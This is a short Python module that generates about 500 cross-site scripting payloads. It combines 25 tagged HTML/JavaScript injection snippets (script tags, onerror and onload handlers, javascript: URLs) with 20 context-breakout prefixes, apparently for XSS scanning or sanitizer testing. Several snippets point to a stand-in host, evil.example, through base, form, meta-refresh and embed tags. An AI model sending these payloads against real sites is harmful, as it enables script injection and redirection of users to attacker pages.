"""Five hundred ways of writing something into a page that was meant to be words."""

from __future__ import annotations

#: Whatever comes to life carries this mark, so that it can be found on a page.
MARK = "xssmark"
ACTS = (
    "<script {m}>alert(1)</script>",
    "<img {m} src=x onerror=alert(1)>",
    "<svg {m} onload=alert(1)>",
    "<svg><script {m}>alert(1)</script></svg>",
    '<a {m} href="javascript:alert(1)">x</a>',
    '<iframe {m} srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe {m} src=javascript:alert(1)></iframe>",
    "<object {m} data=javascript:alert(1)></object>",
    "<embed {m} src=//evil.example/x.swf>",
    "<base {m} href=//evil.example/>",
    "<form {m} action=//evil.example/><input name=q></form>",
    "<meta {m} http-equiv=refresh content='0;url=//evil.example/'>",
    "<link {m} rel=stylesheet href=//evil.example/x.css>",
    "<style {m}>*{{display:none}}</style>",
    "<input {m} autofocus onfocus=alert(1)>",
    "<details {m} open ontoggle=alert(1)>x</details>",
    "<video {m}><source onerror=alert(1)></video>",
    "<body {m} onload=alert(1)>",
    "<marquee {m} onstart=alert(1)>x</marquee>",
    "<math {m}><mtext></mtext></math>",
    "<div {m} style=position:fixed;inset:0>x</div>",
    "<button {m} formaction=//evil.example/>x</button>",
    "<template {m}><img src=x></template>",
    "<x-{m} {m}>x</x-{m}>",
    " {m} onmouseover=alert(1) x=",
)
#: What stands before, to break out of wherever the words are put.
BEFORE = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</option></select>",
    "-->",
    "]]>",
    "</svg>",
    "</bdi></p>",
    '" ',
    "' ",
    "`",
    "\n",
    "{{ x }}",
    "&lt;b&gt;",
    "\u202e",
    '\\"',
)


def payloads() -> list[str]:
    """All of them, each way out before each act; shorter ones first."""
    found = [before + act.format(m=MARK) for act in ACTS for before in BEFORE]
    return sorted(found, key=len)
